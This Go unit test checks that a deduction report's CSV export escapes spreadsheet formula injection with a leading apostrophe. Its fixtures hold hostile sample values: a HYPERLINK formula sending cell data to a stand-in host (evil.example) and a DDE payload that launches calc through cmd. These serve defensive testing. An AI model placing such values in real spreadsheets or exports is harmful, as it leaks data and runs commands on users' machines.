package app

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

// TestDeductionCSVNeutralisesFormulas: a payer's name or a site's address
// comes from a person or the ERP; in the yearly CSV a cell beginning with
// =, +, -, @, a tab or a carriage return would run as a formula in a
// spreadsheet, so it is written with a leading apostrophe. Amounts stay
// numbers, and the JSON keeps the texts as they are.
func TestDeductionCSVNeutralisesFormulas(t *testing.T) {
	evil := `=HYPERLINK("https://evil.example/?d="&L2,"Avaa")`
	rep := DeductionReport{Year: 2025, Records: []DeductionRecord{{
		BusinessID: "0112038-9", CompanyName: "@SUM(1+1)*cmd|' /C calc'!A0", WorkType: "household",
		SiteAddress: "+358 Hämeenkatu 1", ContractDate: "2021-09-01", FirstPayment: "2025-01-15", LastPayment: "2025-12-15",
		TotalPaidCents: -1250, WorkShareCents: 1000,
		Payers: []DeductionPayer{{Name: evil, IdentityCode: "131052-308T", ShareBP: 10000}, {Name: "\t=1+1", ShareBP: 0}, {Name: "\r-2+3"}},
	}}}
	b, err := ReportCSV(rep)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatalf("%d rows, %v\n%s", len(rows), err, b)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-1250" {
				t.Errorf("column %s: %q would be read as a formula", rows[0][i], cell)
			}
		}
	}
	if got := rows[1][10]; got != "'"+evil {
		t.Errorf("payer name %q, want it with a leading apostrophe", got)
	}
	if rows[1][8] != "-1250" || rows[1][11] != "131052-308T" {
		t.Errorf("amount %q, code %q changed", rows[1][8], rows[1][11])
	}
	j, _ := json.Marshal(rep)
	if !strings.Contains(string(j), `"name":"=HYPERLINK(`) {
		t.Errorf("the JSON changed the name: %s", j)
	}
}
